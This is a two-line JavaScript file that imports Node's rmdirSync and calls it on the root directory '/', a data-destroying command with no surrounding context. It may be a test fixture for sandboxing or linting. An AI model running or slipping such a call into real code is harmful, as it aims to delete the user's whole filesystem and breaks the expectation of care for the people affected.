import { rmdirSync } from 'node:fs';

rmdirSync('/');
